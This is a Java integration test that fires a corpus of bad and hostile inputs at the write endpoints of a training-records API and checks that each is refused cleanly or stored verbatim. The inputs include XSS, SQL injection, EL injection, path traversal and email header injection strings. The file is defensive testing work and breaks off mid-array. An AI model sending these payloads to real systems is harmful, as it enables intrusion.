package org.linkworker.trellis.it;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.json.Json;
import jakarta.json.JsonArray;
import jakarta.json.JsonObject;
import jakarta.json.JsonObjectBuilder;
import jakarta.json.JsonString;
import jakarta.json.JsonValue;
import java.io.IOException;
import java.io.StringReader;
import java.io.UncheckedIOException;
import java.net.URL;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.function.Supplier;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.EnterpriseArchive;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * The bad-input corpus through the API (issue 13): a table of cases, each a bad or hostile value
 * sent to a write endpoint of every component (XSS, EL, SQL fragments, right-to-left overrides,
 * overlong and 1 MB strings, NUL and control characters, impossible dates, negative, zero and huge
 * numbers, wrong JSON types, 10,000-level nesting, multi-megabyte bodies, wrong content types,
 * malformed JSON, CSV files with formulas), and bad query parameters on reads.
 *
 * <p>Each case ends in one of two ways, and the table says which it expects: refused, a 4xx problem
 * document, with the resource read afterwards exactly as before (no partial write); or stored, a
 * 2xx, with the value read back exactly the text that was sent. Never a 500. The CSV downloads are
 * read back too: no cell a spreadsheet would run as a formula. The number of cases by kind and by
 * status is printed at the end.
 */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
class BadInputApiIT {

  private static final String PASSWORD = "bad-input-api-2026";
  private static final String PROBLEM = "application/problem+json";
  private static final String JSON = "application/json";
  private static final String MEGABYTE = "x".repeat(1024 * 1024);

  /** kind → status → count, over every case run. */
  private static final Map<String, Map<Integer, Integer>> TALLY = new ConcurrentHashMap<>();

  @Deployment(testable = false)
  static EnterpriseArchive deployment() {
    return Deployments.application();
  }

  @ArquillianResource URL base;

  private String run;
  private String organisation;
  private String worker;
  private String supervisor;
  private String employer;
  private Http asSteward;
  private Http asWorker;
  private Http asSupervisor;
  private Http asEmployer;
  private Http asProvider;
  private String draft;
  private String course;
  private String session;
  private String scheme;

  /** What a case expects. */
  enum Expect {
    /** A 4xx problem, nothing written. */
    REFUSED,
    /** A 2xx, the text stored exactly as sent. */
    STORED
  }

  /** One value to send into one field: its kind, a label, the JSON value (raw) and the outcome. */
  record Probe(String kind, String label, String json, String text, Expect expect) {}

  /**
   * A write endpoint with a JSON body of which one field is probed.
   *
   * @param subject the id the path and reads are about (created on demand where a case uses it up)
   * @param path the request's path, {@code %s} the subject
   * @param body the valid body, given the subject
   * @param read where the stored resource is read: {@code %s} the subject (updates) or the id the
   *     answer gives (creations); also the state compared before and after a refusal, unless {@code
   *     state} says otherwise
   */
  record Target(
      String name,
      Supplier<Http> as,
      String method,
      Supplier<String> subject,
      String path,
      java.util.function.Function<String, String> body,
      String field,
      String read,
      String idField,
      String state) {}

  // ---------------------------------------------------------------------------------------------
  // The table

  private static List<Probe> textProbes(int limit, boolean multiLine) {
    List<Probe> probes = new ArrayList<>();
    for (String[] hostile :
        new String[][] {
          {"XSS", "script element", "<script>alert(1)</script>"},
          {"XSS", "attribute break-out", "\"><img src=x onerror=alert(1)>"},
          {"EL", "deferred EL", "#{7*7}"},
          {"EL", "immediate EL", "${7*7}"},
          {"SQL", "tautology", "' OR '1'='1"},
          {"SQL", "drop table", "'; DROP TABLE person; --"},
          {"RTL", "right-to-left override", "report\u202Efdp.exe"},
          {"FORMAT", "message format braces", "{0} '{1}' {"},
        }) {
      probes.add(new Probe(hostile[0], hostile[1], quote(hostile[2]), hostile[2], Expect.STORED));
    }
    probes.add(
        new Probe(
            "OVERLONG",
            "one over the limit (" + limit + ")",
            quote("y".repeat(limit + 1)),
            null,
            Expect.REFUSED));
    probes.add(new Probe("OVERLONG", "1 MB", quote(MEGABYTE), null, Expect.REFUSED));
    probes.add(new Probe("CONTROL", "NUL", quote("a\u0000b"), null, Expect.REFUSED));
    probes.add(new Probe("CONTROL", "escape", quote("a\u001b[31mb"), null, Expect.REFUSED));
    if (!multiLine) {
      probes.add(new Probe("CONTROL", "line break", quote("a\nb"), null, Expect.REFUSED));
    }
    probes.add(new Probe("TYPE", "number for text", "123", null, Expect.REFUSED));
    probes.add(new Probe("TYPE", "object for text", "{\"a\":1}", null, Expect.REFUSED));
    return probes;
  }

  private static String quote(String text) {
    return Json.createValue(text).toString();
  }

  private List<Target> textTargets() {
    return List.of(
        new Target(
            "cpd entry title",
            () -> asWorker,
            "POST",
            () -> worker,
            "api/people/%s/cpd-entries",
            s -> entry(null),
            "title",
            "api/cpd-entries/%s",
            "id",
            "api/people/" + worker + "/cpd-entries?limit=1000"),
        new Target(
            "cpd entry reflection",
            () -> asWorker,
            "POST",
            () -> worker,
            "api/people/%s/cpd-entries",
            s -> entry(null),
            "reflection.what",
            "api/cpd-entries/%s",
            "id",
            "api/people/" + worker + "/cpd-entries?limit=1000"),
        new Target(
            "cpd entry update title",
            () -> asWorker,
            "PUT",
            () -> draft,
            "api/cpd-entries/%s",
            s -> entry(version("api/cpd-entries/" + s)),
            "title",
            "api/cpd-entries/%s",
            null,
            null),
        new Target(
            "verify note",
            () -> asSupervisor,
            "POST",
            this::submittedEntry,
            "api/cpd-entries/%s/verify",
            s -> "{\"note\":\"Seen\"}",
            "note",
            "api/cpd-entries/%s",
            null,
            null),
        new Target(
            "return reason",
            () -> asSupervisor,
            "POST",
            this::submittedEntry,
            "api/cpd-entries/%s/return",
            s -> "{\"reason\":\"Add a reflection\"}",
            "reason",
            "api/cpd-entries/%s",
            null,
            null),
        new Target(
            "assessment note",
            () -> asSupervisor,
            "POST",
            () -> worker,
            "api/people/%s/assessments",
            s -> "{\"competency\":\"PC.1\",\"level\":1,\"date\":\"" + LocalDate.now() + "\"}",
            "note",
            "api/assessments/%s",
            "id",
            "api/people/" + worker + "/assessments"),
        new Target(
            "supervision notes",
            () -> asWorker,
            "POST",
            () -> worker,
            "api/people/%s/supervision",
            s ->
                "{\"date\":\""
                    + LocalDate.now()
                    + "\",\"minutes\":30,\"kind\":\"PEER\",\"supervisor\":\""
                    + supervisor
                    + "\"}",
            "notes",
            "api/supervision/%s",
            "id",
            "api/people/" + worker + "/supervision"),
        new Target(
            "supervision update notes",
            () -> asWorker,
            "PUT",
            () -> session,
            "api/supervision/%s",
            s ->
                "{\"date\":\""
                    + LocalDate.now()
                    + "\",\"minutes\":30,\"kind\":\"PEER\",\"supervisor\":\""
                    + supervisor
                    + "\",\"version\":"
                    + version("api/supervision/" + s)
                    + "}",
            "notes",
            "api/supervision/%s",
            null,
            null),
        new Target(
            "course title",
            () -> asProvider,
            "POST",
            () -> "",
            "api/courses",
            s -> course(null),
            "title",
            "api/courses/%s",
            "id",
            "api/courses?limit=1000"),
        new Target(
            "course description",
            () -> asProvider,
            "POST",
            () -> "",
            "api/courses",
            s -> course(null),
            "description",
            "api/courses/%s",
            "id",
            "api/courses?limit=1000"),
        new Target(
            "course update accreditation",
            () -> asProvider,
            "PUT",
            () -> course,
            "api/courses/%s",
            s -> course(version("api/courses/" + s)),
            "accreditation",
            "api/courses/%s",
            null,
            null),
        new Target(
            "organisation name",
            () -> asSteward,
            "POST",
            () -> "",
            "api/organisations",
            s -> "{\"kind\":\"EMPLOYER\"}",
            "name",
            "api/organisations/%s",
            "id",
            "api/organisations?limit=1000"),
        new Target(
            "person display name",
            () -> asEmployer,
            "POST",
            () -> organisation,
            "api/organisations/%s/people",
            s ->
                "{\"username\":\"bi"
                    + UUID.randomUUID().toString().substring(0, 12)
                    + "\",\"password\":\""
                    + PASSWORD
                    + "\",\"roles\":[\"LINK_WORKER\"],\"stage\":\"LINK_WORKER\",\"supervisor\":\""
                    + supervisor
                    + "\"}",
            "displayName",
            "api/people/%s",
            "username",
            "api/organisations/" + organisation + "/people?limit=1000"),
        new Target(
            "person update display name",
            () -> asEmployer,
            "PUT",
            () -> worker,
            "api/people/%s",
            s -> "{\"version\":" + version("api/people/" + s) + "}",
            "displayName",
            "api/people/%s",
            null,
            null),
        new Target(
            "token name",
            () -> asWorker,
            "POST",
            () -> "",
            "api/me/tokens",
            s -> "{\"days\":1}",
            "name",
            "api/me/tokens/%s",
            "id",
            "api/me/tokens"),
        new Target(
            "scheme title",
            () -> asEmployer,
            "POST",
            () -> organisation,
            "api/organisations/%s/schemes",
            s ->
                "{\"code\":\"BI_"
                    + UUID.randomUUID().toString().substring(0, 8).toUpperCase()
                    + "\",\"items\":[{\"competency\":\"PC.1\",\"months\":12}]}",
            "title",
            "api/schemes/%s",
            "id",
            "api/organisations/" + organisation + "/schemes"));
  }

  @TestFactory
  Stream<DynamicTest> everyBadInputIsRefusedOrStoredAsTextAndNeverA500() {
    fixtures();
    List<DynamicTest> tests = new ArrayList<>();
    for (Target target : textTargets()) {
      boolean multiLine =
          target.field().startsWith("reflection")
              || target.field().equals("description")
              || target.field().equals("note")
              || target.field().equals("notes")
              || target.field().equals("reason");
      for (Probe probe : textProbes(limitOf(target), multiLine)) {
        tests.add(
            test(probe.kind(), target.name() + ": " + probe.label(), () -> probe(target, probe)));
      }
    }
    tests.addAll(fieldCases());
    tests.addAll(bodyCases());
    tests.addAll(queryCases());
    tests.addAll(csvCases());
    return tests.stream();
  }

  private static int limitOf(Target target) {
    return switch (target.field()) {
      case "title", "displayName", "accreditation", "name" ->
          target.name().startsWith("token") ? 100 : 200;
      case "reflection.what", "description", "notes" -> 4000;
      case "note", "reason" -> 2000;
      default -> 200;
    };
  }

  private DynamicTest test(String kind, String name, Supplier<Integer> body) {
    return DynamicTest.dynamicTest(
        "[" + kind + "] " + name,
        () -> {
          int status;
          try {
            status = body.get();
          } catch (AssertionError failed) {
            throw new AssertionError("[" + kind + "] " + name + ": " + failed.getMessage(), failed);
          }
          TALLY.computeIfAbsent(kind, k -> new TreeMap<>()).merge(status, 1, Integer::sum);
        });
  }

  @AfterAll
  static void printTheTally() {
    int total = TALLY.values().stream().flatMap(m -> m.values().stream()).mapToInt(i -> i).sum();
    StringBuilder out = new StringBuilder("Bad-input corpus (API): " + total + " cases\n");
    new TreeMap<>(TALLY)
        .forEach(
            (kind, statuses) ->
                out.append("  ").append(kind).append(' ').append(statuses).append('\n'));
    Map<Integer, Integer> byStatus = new TreeMap<>();
    TALLY.values().forEach(m -> m.forEach((s, n) -> byStatus.merge(s, n, Integer::sum)));
    out.append("  by status ").append(byStatus);
    System.out.println(out);
  }

  // ---------------------------------------------------------------------------------------------
  // Running a probe

  private int probe(Target target, Probe probe) {
    String subject = target.subject().get();
    Http as = target.as().get();
    String path = target.path().formatted(subject);
    String body = with(target.body().apply(subject), target.field(), probe.json());
    String state = target.state() != null ? target.state() : target.read().formatted(subject);
    String before = target.idField() == null || target.state() != null ? read(as, state) : null;
    HttpResponse<String> response = send(as, target.method(), path, JSON, bytes(body));
    if (probe.expect() == Expect.REFUSED) {
      refused(response);
      if (before != null) {
        assertThat(read(as, state)).as("nothing written").isEqualTo(before);
      }
    } else {
      assertThat(response.statusCode()).as(response.body()).isBetween(200, 299);
      String id =
          target.idField() == null
              ? subject
              : Http.json(response).asJsonObject().getString(target.idField());
      JsonObject stored = Http.json(as.getJson(target.read().formatted(id))).asJsonObject();
      assertThat(pick(stored, target.field())).as("stored exactly").isEqualTo(probe.text());
    }
    return response.statusCode();
  }

  private static String pick(JsonObject object, String field) {
    String name = field.equals("reason") ? "note" : field;
    int dot = name.indexOf('.');
    JsonObject holder = dot < 0 ? object : object.getJsonObject(name.substring(0, dot));
    JsonValue value = holder.get(dot < 0 ? name : name.substring(dot + 1));
    return value instanceof JsonString text ? text.getString() : String.valueOf(value);
  }

  /** The body with one field (a.b for a nested one) set to a raw JSON value. */
  static String with(String body, String field, String rawJson) {
    JsonObject object = parse(body).asJsonObject();
    JsonValue value = parse("[" + rawJson + "]").asJsonArray().get(0);
    int dot = field.indexOf('.');
    JsonObjectBuilder builder = Json.createObjectBuilder(object);
    if (dot < 0) {
      builder.add(field, value);
    } else {
      String outer = field.substring(0, dot);
      JsonObject inner =
          object.containsKey(outer) && object.get(outer) instanceof JsonObject o
              ? o
              : JsonValue.EMPTY_JSON_OBJECT;
      builder.add(
          outer, Json.createObjectBuilder(inner).add(field.substring(dot + 1), value).build());
    }
    return builder.build().toString();
  }

  private static JsonValue parse(String json) {
    try (var reader = Json.createReader(new StringReader(json))) {
      return reader.readValue();
    }
  }

  /**
   * The status a kind of bad body must get wherever it is sent: too large a 413, too deep a 400; 0
   * for the kinds whose refusal depends on the endpoint (a 400, 415 or 404).
   */
  private static int expectedStatus(String kind) {
    return switch (kind) {
      case "OVERSIZE" -> 413;
      case "NESTING" -> 400;
      default -> 0;
    };
  }

  private static void refused(HttpResponse<String> response, int expected) {
    refused(response);
    if (expected != 0) {
      assertThat(response.statusCode())
          .as("%s: %s", expected, abbreviate(response.body()))
          .isEqualTo(expected);
    }
  }

  private static void refused(HttpResponse<String> response) {
    assertThat(response.statusCode())
        .as("a refusal, not %s: %s", response.statusCode(), abbreviate(response.body()))
        .isBetween(400, 499);
    assertThat(response.headers().firstValue("Content-Type"))
        .as("a problem document")
        .hasValueSatisfying(type -> assertThat(type).startsWith(PROBLEM));
    JsonObject problem = Http.json(response).asJsonObject();
    assertThat(problem.getInt("status")).isEqualTo(response.statusCode());
    assertThat(problem.getString("detail")).isNotBlank();
  }

  private static String abbreviate(String text) {
    return text == null || text.length() < 400 ? text : text.substring(0, 400) + "…";
  }

  /**
   * What a path holds, to compare before and after: the resource, or for a long list its size and
   * newest item (a refused creation adds none; reading the whole list twice a case was most of the
   * corpus's time).
   */
  private static String read(Http as, String path) {
    String asked = path.replace("limit=1000", "limit=1");
    HttpResponse<String> response = as.getJson(asked);
    assertThat(response.statusCode()).as(asked + ": " + response.body()).isEqualTo(200);
    return response.headers().firstValue("X-Total-Count").orElse("") + " " + response.body();
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  static HttpResponse<String> send(
      Http as, String method, String path, String contentType, byte[] body) {
    HttpRequest.Builder request = as.request(path).header("Accept", JSON);
    if (contentType != null) {
      request.header("Content-Type", contentType);
    }
    request.method(method, HttpRequest.BodyPublishers.ofByteArray(body));
    return as.send(request);
  }

  // ---------------------------------------------------------------------------------------------
  // Field values other than text: numbers, dates, wrong types, unknown references

  private record FieldCase(
      String kind, Target target, String field, String rawJson, String label) {}

  private List<DynamicTest> fieldCases() {
    Target entry =
        new Target(
            "cpd entry",
            () -> asWorker,
            "POST",
            () -> worker,
            "api/people/%s/cpd-entries",
            s -> entry(null),
            null,
            "api/cpd-entries/%s",
            "id",
            "api/people/" + worker + "/cpd-entries?limit=1000");
    Target entryUpdate =
        new Target(
            "cpd entry update",
            () -> asWorker,
            "PUT",
            () -> draft,
            "api/cpd-entries/%s",
            s -> entry(version("api/cpd-entries/" + s)),
            null,
            "api/cpd-entries/%s",
            null,
            null);
    Target courseCreate =
        new Target(
            "course",
            () -> asProvider,
            "POST",
            () -> "",
            "api/courses",
            s -> course(null),
            null,
            "api/courses/%s",
            "id",
            "api/courses?limit=1000");
    Target courseUpdate =
        new Target(
            "course update",
            () -> asProvider,
            "PUT",
            () -> course,
            "api/courses/%s",
            s -> course(version("api/courses/" + s)),
            null,
            "api/courses/%s",
            null,
            null);
    Target sessionCreate =
        new Target(
            "supervision record",
            () -> asWorker,
            "POST",
            () -> worker,
            "api/people/%s/supervision",
            s ->
                "{\"date\":\""
                    + LocalDate.now()
                    + "\",\"minutes\":30,\"kind\":\"PEER\",\"supervisor\":\""
                    + supervisor
                    + "\"}",
            null,
            null,
            "id",
            "api/people/" + worker + "/supervision");
    Target assessment =
        new Target(
            "assessment",
            () -> asSupervisor,
            "POST",
            () -> worker,
            "api/people/%s/assessments",
            s -> "{\"competency\":\"PC.1\",\"level\":1,\"date\":\"" + LocalDate.now() + "\"}",
            null,
            null,
            "id",
            "api/people/" + worker + "/assessments");
    Target declaration =
        new Target(
            "declaration",
            () -> asWorker,
            "POST",
            () -> worker,
            "api/people/%s/declarations",
            s -> "{\"statement\":\"I declare\"}",
            null,
            null,
            "id",
            "api/people/" + worker + "/declarations");
    Target token =
        new Target(
            "token",
            () -> asWorker,
            "POST",
            () -> "",
            "api/me/tokens",
            s -> "{\"name\":\"probe\",\"days\":1}",
            null,
            null,
            "id",
            "api/me/tokens");
    Target person =
        new Target(
            "person",
            () -> asEmployer,
            "POST",
            () -> organisation,
            "api/organisations/%s/people",
            s ->
                "{\"username\":\"bi"
                    + UUID.randomUUID().toString().substring(0, 12)
                    + "\",\"displayName\":\"Probe\",\"password\":\""
                    + PASSWORD
                    + "\",\"roles\":[\"LINK_WORKER\"],\"stage\":\"LINK_WORKER\",\"supervisor\":\""
                    + supervisor
                    + "\"}",
            null,
            null,
            "username",
            "api/organisations/" + organisation + "/people?limit=1000");
    Target organisationCreate =
        new Target(
            "organisation",
            () -> asSteward,
            "POST",
            () -> "",
            "api/organisations",
            s -> "{\"name\":\"Probe " + UUID.randomUUID() + "\",\"kind\":\"EMPLOYER\"}",
            null,
            null,
            "id",
            "api/organisations?limit=1000");
    Target schemeCreate =
        new Target(
            "scheme",
            () -> asEmployer,
            "POST",
            () -> organisation,
            "api/organisations/%s/schemes",
            s ->
                "{\"code\":\"BI_"
                    + UUID.randomUUID().toString().substring(0, 8).toUpperCase()
                    + "\",\"title\":\"Probe\",\"items\":[{\"competency\":\"PC.1\",\"months\":12}]}",
            null,
            null,
            "id",
            "api/organisations/" + organisation + "/schemes");
    Target schemeUpdate =
        new Target(
            "scheme update",
            () -> asEmployer,
            "PUT",
            () -> scheme,
            "api/schemes/%s",
            s ->
                "{\"code\":\"BI_S"
                    + run.toUpperCase()
                    + "\",\"title\":\"Probe\",\"items\":[{\"competency\":\"PC.1\",\"months\":12}],"
                    + "\"version\":"
                    + version("api/schemes/" + s)
                    + "}",
            null,
            "api/schemes/%s",
            null,
            null);
    Target target =
        new Target(
            "supervision target",
            () -> asEmployer,
            "PUT",
            () -> organisation,
            "api/organisations/%s/supervision-target",
            s -> "{\"weeks\":6}",
            null,
            "api/organisations/%s/supervision-target",
            null,
            null);
    Target reminders =
        new Target(
            "reminder settings",
            () -> asWorker,
            "PUT",
            () -> "",
            "api/me/reminders",
            s -> "{\"emailReminders\":true}",
            null,
            "api/me/reminders",
            null,
            null);
    Target password =
        new Target(
            "password change",
            () -> asWorker,
            "PUT",
            () -> "",
            "api/me/password",
            s -> "{\"currentPassword\":\"" + PASSWORD + "\",\"newPassword\":\"" + PASSWORD + "\"}",
            null,
            "api/me",
            null,
            null);
    Target personUpdate =
        new Target(
            "person update",
            () -> asEmployer,
            "PUT",
            () -> worker,
            "api/people/%s",
            s -> "{\"version\":" + version("api/people/" + s) + "}",
            null,
            "api/people/%s",
            null,
            null);
    Target gapJob =
        new Target(
            "gap report job",
            () -> asEmployer,
            "POST",
            () -> "",
            "api/reports/gap-reports",
            s -> "{\"organisation\":\"" + organisation + "\"}",
            null,
            null,
            null,
            "api/reports/gap-reports?limit=1000");
    Target reminderJob =
        new Target(
            "reminder job",
            () -> asSteward,
            "POST",
            () -> "",
            "api/reports/reminders",
            s -> "{}",
            null,
            null,
            null,
            null);

    String far = "\"" + LocalDate.now().plusYears(5) + "\"";
    List<FieldCase> cases = new ArrayList<>();
    for (Target t : List.of(entry, entryUpdate)) {
      for (String[] date : BAD_DATES) {
        cases.add(new FieldCase("DATE", t, "date", date[0], date[1]));
      }
      cases.add(new FieldCase("DATE", t, "date", far, "five years ahead"));
      for (String[] number : BAD_NUMBERS) {
        cases.add(new FieldCase("NUMBER", t, "hours", number[0], "hours " + number[1]));
      }
      cases.add(new FieldCase("NUMBER", t, "hours", "100.25", "hours over 100"));
      cases.add(new FieldCase("TYPE", t, "title", "null", "null title (required)"));
      cases.add(new FieldCase("TYPE", t, "type", "\"<script>\"", "type not a constant"));
      cases.add(new FieldCase("TYPE", t, "type", "\"course\"", "type in lower case"));
      cases.add(new FieldCase("TYPE", t, "claims", "{\"competency\":\"PC.1\"}", "object for list"));
      cases.add(new FieldCase("TYPE", t, "reflection", "[\"what\"]", "array for object"));
      cases.add(new FieldCase("TYPE", t, "participatory", "\"yes\"", "text for true/false"));
      cases.add(
          new FieldCase(
              "TYPE",
              t,
              "claims",
              "[{\"competency\":\"' OR '1'='1\",\"level\":1}]",
              "claim of an unknown competency (SQL)"));
      cases.add(
          new FieldCase(
              "NUMBER", t, "claims", "[{\"competency\":\"PC.1\",\"level\":99}]", "claim level 99"));
      cases.add(
          new FieldCase(
              "NUMBER", t, "claims", "[{\"competency\":\"PC.1\",\"level\":-1}]", "claim level -1"));
      cases.add(new FieldCase("TYPE", t, "claims", "[null]", "null claim"));
      cases.add(new FieldCase("TYPE", t, "standard", "\"<script>\"", "unknown standard"));
      cases.add(new FieldCase("TYPE", t, "course", "\"../../etc/passwd\"", "unknown course"));
    }
    cases.add(new FieldCase("NUMBER", entryUpdate, "version", "-1", "version -1 (stale)"));
    cases.add(new FieldCase("NUMBER", entryUpdate, "version", "1e308", "version 1e308"));
    for (Target t : List.of(courseCreate, courseUpdate)) {
      for (String[] number : BAD_NUMBERS) {
        cases.add(new FieldCase("NUMBER", t, "hours", number[0], "hours " + number[1]));
      }
      cases.add(new FieldCase("NUMBER", t, "cpdHours", "1000.01", "CPD hours over 1,000"));
      cases.add(new FieldCase("XSS", t, "url", "\"javascript:alert(1)\"", "javascript: URL"));
      cases.add(
          new FieldCase(
              "XSS", t, "url", "\"data:text/html,<script>alert(1)</script>\"", "data URL"));
      cases.add(new FieldCase("TYPE", t, "deliveryMode", "\"TELEPATHY\"", "unknown delivery"));
      cases.add(new FieldCase("TYPE", t, "mappings", "{}", "object for list"));
      cases.add(
          new FieldCase(
              "NUMBER",
              t,
              "mappings",
              "[{\"competency\":\"PC.1\",\"level\":1e308,\"strength\":\"DEVELOPS\"}]",
              "mapping level 1e308"));
      cases.add(
          new FieldCase(
              "TYPE",
              t,
              "mappings",
              "[{\"competency\":\"<script>\",\"level\":1,\"strength\":\"DEVELOPS\"}]",
              "mapping of an unknown competency"));
      cases.add(
          new FieldCase(
              "TYPE",
              t,
              "mappings",
              "[{\"competency\":\"PC.1\",\"level\":1,\"strength\":\"DEVELOPS\","
                  + "\"framework\":\"'; DROP TABLE course; --\"}]",
              "mapping of an unknown framework (SQL)"));
    }
    for (String[] date : BAD_DATES) {
      cases.add(new FieldCase("DATE", sessionCreate, "date", date[0], date[1]));
      cases.add(new FieldCase("DATE", assessment, "date", date[0], date[1]));
    }
    cases.add(new FieldCase("DATE", sessionCreate, "date", far, "five years ahead"));
    cases.add(new FieldCase("DATE", assessment, "date", far, "five years ahead"));
    for (String[] number : BAD_WHOLE_NUMBERS) {
      cases.add(
          new FieldCase("NUMBER", sessionCreate, "minutes", number[0], "minutes " + number[1]));
      cases.add(new FieldCase("NUMBER", assessment, "level", number[0], "level " + number[1]));
      cases.add(new FieldCase("NUMBER", token, "days", number[0], "days " + number[1]));
      cases.add(new FieldCase("NUMBER", target, "weeks", number[0], "weeks " + number[1]));
      cases.add(
          new FieldCase(
              "NUMBER", declaration, "membershipYear", number[0], "membership year " + number[1]));
    }
    cases.add(new FieldCase("NUMBER", sessionCreate, "minutes", "601", "minutes 601"));
    cases.add(new FieldCase("NUMBER", target, "weeks", "53", "weeks 53"));
    cases.add(new FieldCase("NUMBER", token, "days", "366", "days 366"));
    cases.add(new FieldCase("NUMBER", declaration, "membershipYear", "99999", "year 99999"));
    cases.add(new FieldCase("NUMBER", declaration, "membershipYear", "2025", "a past year"));
    cases.add(new FieldCase("TYPE", sessionCreate, "kind", "\"CLINICAL; --\"", "unknown kind"));
    cases.add(
        new FieldCase("SQL", sessionCreate, "supervisor", "\"' OR '1'='1\"", "supervisor (SQL)"));
    cases.add(new FieldCase("TYPE", assessment, "competency", "\"${7*7}\"", "unknown competency"));
    cases.add(new FieldCase("TYPE", declaration, "statement", "[]", "list for text"));
    cases.add(new FieldCase("CONTROL", declaration, "statement", quote("a\u0000b"), "NUL"));
    cases.add(
        new FieldCase("OVERLONG", declaration, "statement", quote("z".repeat(2001)), "2,001"));
    cases.add(new FieldCase("OVERLONG", token, "name", quote(MEGABYTE), "name of 1 MB"));
    cases.add(new FieldCase("TYPE", token, "name", "null", "null name (required)"));
    for (String[] name :
        new String[][] {
          {"\"<script>alert(1)</script>\"", "XSS"},
          {"\"' OR '1'='1\"", "SQL"},
          {"\"#{7*7}\"", "EL"},
          {"\"a\\u0000b\"", "NUL"},
          {"\"ab\"", "too short"},
          {quote("u".repeat(61)), "too long"},
          {"\"al\\u202Eex\"", "right-to-left override"},
          {"123", "a number"},
        }) {
      String kind =
          switch (name[1]) {
            case "XSS", "SQL", "EL" -> name[1];
            case "NUL" -> "CONTROL";
            case "too long" -> "OVERLONG";
            case "right-to-left override" -> "RTL";
            default -> "TYPE";
          };
      cases.add(new FieldCase(kind, person, "username", name[0], "username " + name[1]));
    }
    cases.add(new FieldCase("TYPE", person, "roles", "[\"SUPERUSER\"]", "unknown role"));
    cases.add(new FieldCase("TYPE", person, "roles", "\"STEWARD\"", "text for list"));
    cases.add(new FieldCase("TYPE", person, "roles", "[\"STEWARD\"]", "a role above the employer"));
    cases.add(new FieldCase("XSS", person, "email", "\"<script>@x.org\"", "email (XSS)"));
    cases.add(
        new FieldCase(
            "CONTROL", person, "email", "\"a@b.org\\r\\nBcc: c@d.org\"", "email header injection"));
    cases.add(new FieldCase("TYPE", person, "stage", "\"' OR 1=1 --\"", "unknown stage"));
    cases.add(new FieldCase("TYPE", person, "supervisor", "\"steward\"", "supervisor elsewhere"));
    cases.add(new FieldCase("OVERLONG", person, "password", quote(MEGABYTE), "password of 1 MB"));
    cases.add(new FieldCase("TYPE", person, "password", "\"short\"", "password too short"));
    cases.add(new FieldCase("TYPE", personUpdate, "roles", "[\"STEWARD\"]", "steward role"));
    cases.add(new FieldCase("TYPE", personUpdate, "version", "\"1\"", "text for version"));
    cases.add(new FieldCase("XSS", personUpdate, "email", "\"<svg/onload=alert(1)>\"", "email"));
    cases.add(new FieldCase("TYPE", organisationCreate, "kind", "\"STEWARD\"", "unknown kind"));
    cases.add(new FieldCase("TYPE", organisationCreate, "name", "null", "null name"));
    cases.add(new FieldCase("TYPE", organisationCreate, "name", "\"   \"", "blank name"));
    cases.add(new FieldCase("TYPE", schemeCreate, "code", "\"<SCRIPT>\"", "code (XSS)"));
    cases.add(
        new FieldCase("SQL", schemeCreate, "code", "\"X'; DROP TABLE scheme; --\"", "code (SQL)"));
    cases.add(new FieldCase("TYPE", schemeCreate, "items", "[]", "no items"));
    cases.add(
        new FieldCase(
            "NUMBER",
            schemeCreate,
            "items",
            "[{\"competency\":\"PC.1\",\"months\":-1}]",
            "months -1"));
    cases.add(
        new FieldCase(
            "NUMBER",
            schemeCreate,
            "items",
            "[{\"competency\":\"PC.1\",\"months\":121}]",
            "months 121"));
    cases.add(
        new FieldCase(
            "TYPE",
            schemeCreate,
            "items",
            "[{\"competency\":\"PC.1\",\"months\":12},{\"competency\":\"PC.1\",\"months\":6}]",
            "one competency twice"));
    cases.add(
        new FieldCase(
            "XSS",
            schemeUpdate,
            "title",
            quote("<script>alert(1)</script>" + "t".repeat(200)),
            "title overlong with script"));
    cases.add(new FieldCase("NUMBER", schemeUpdate, "version", "-5", "stale version"));
    cases.add(
        new FieldCase("XSS", reminders, "email", "\"\\\"><script>alert(1)</script>\"", "email"));
    cases.add(
        new FieldCase("TYPE", reminders, "emailReminders", "\"false\"", "text for true/false"));
    cases.add(new FieldCase("OVERLONG", password, "newPassword", quote(MEGABYTE), "1 MB"));
    cases.add(
        new FieldCase("CONTROL", password, "newPassword", quote("a\u0000bcdefghijklmnop"), "NUL"));
    cases.add(new FieldCase("TYPE", password, "currentPassword", "123", "number"));
    cases.add(new FieldCase("TYPE", password, "currentPassword", "\"' OR '1'='1\"", "wrong (SQL)"));
    cases.add(
        new FieldCase("TYPE", gapJob, "organisation", "\"<script>\"", "unknown organisation"));
    cases.add(new FieldCase("TYPE", gapJob, "organisation", "42", "number"));
    for (String[] date : BAD_DATES) {
      cases.add(new FieldCase("DATE", reminderJob, "on", date[0], "day " + date[1]));
    }

    List<DynamicTest> tests = new ArrayList<>();
    for (FieldCase c : cases) {
      tests.add(
          test(
              c.kind(),
              c.target().name() + " " + c.field() + ": " + c.label(),
              () -> refusedField(c.target(), c.field(), c.rawJson())));
    }
    return tests;
  }

  private static final String[][] BAD_DATES = {
    {"\"2026-02-30\"", "30 February"},
    {"\"2026-13-01\"", "month 13"},
    {"\"not-a-date\"", "not a date"},
    {"\"0000-01-01\"", "year 0"},
    {"\"+99999-01-01\"", "year 99999"},
    {"\"01/02/2026\"", "day/month/year"},
    {"20260101", "a number"},
  };

  private static final String[][] BAD_NUMBERS = {
    {"-1", "-1"},
    {"0", "0"},
    {"1e308", "1e308"},
    {"\"NaN\"", "NaN as text"},
    {"\"1.5\"", "a number as text"},
    {"1e-400", "1e-400"},
    {"123456789012345678901234567890", "30 digits"},
  };

  private static final String[][] BAD_WHOLE_NUMBERS = {
    {"-1", "-1"},
    {"0", "0"},
    {"1e308", "1e308"},
